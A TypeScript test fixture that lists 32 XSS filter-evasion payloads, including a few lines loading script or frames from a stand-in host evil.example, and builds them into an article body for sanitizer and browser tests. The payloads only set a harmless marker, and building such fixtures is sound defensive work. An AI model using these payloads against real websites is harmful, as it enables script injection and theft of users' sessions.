/**
 * Known XSS payloads (OWASP filter-evasion cheat sheet style, written out for this project). Each one would
 * set `window.__xss` if it ran; the sanitizer tests prove none survives and the browser test proves none runs.
 */
export const XSS_PAYLOADS: string[] = [
  '<script>window.__xss=1</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror="window.__xss=2">',
  '<IMG SRC="javascript:window.__xss=3">',
  '<img src=JaVaScRiPt:window.__xss=4>',
  '<img src="jav&#x09;ascript:window.__xss=5">',
  '<img """><script>window.__xss=6</script>">',
  '<svg onload=window.__xss=7>',
  '<svg><script>window.__xss=8</script></svg>',
  '<body onload=window.__xss=9>',
  '<iframe src="javascript:window.__xss=10"></iframe>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=11</script>"></iframe>',
  '<a href="javascript:window.__xss=12">click</a>',
  '<a href="  JAVASCRIPT:window.__xss=13">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTQ8L3NjcmlwdD4=">data</a>',
  '<div style="background:url(javascript:window.__xss=15)">styled</div>',
  '<input autofocus onfocus=window.__xss=16>',
  '<details open ontoggle=window.__xss=17>',
  '<video><source onerror="window.__xss=18"></video>',
  '<object data="javascript:window.__xss=19"></object>',
  '<embed src="javascript:window.__xss=20">',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=21>',
  '<form action="javascript:window.__xss=22"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=23">',
  '<base href="javascript:window.__xss=24//">',
  '<link rel=stylesheet href="javascript:window.__xss=25">',
  '<style>@import "javascript:window.__xss=26";</style>',
  '<p title="</p><script>window.__xss=27</script>">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=28>"></noscript>',
  '<a href="#" onclick="window.__xss=29">plain</a>',
  '<table background="javascript:window.__xss=30"><tr><td>t</td></tr></table>',
  '<!--<img src="--><img src=x onerror=window.__xss=31//">',
  '<marquee onstart=window.__xss=32>m</marquee>',
];

/** The corpus as one article body, between harmless formatting that must survive. */
export function xssArticleHtml(): string {
  return `<p><strong>Safe bold</strong> and <a href="https://example.com/">a safe link</a></p>${XSS_PAYLOADS.join('\n')}<p>End of article</p>`;
}
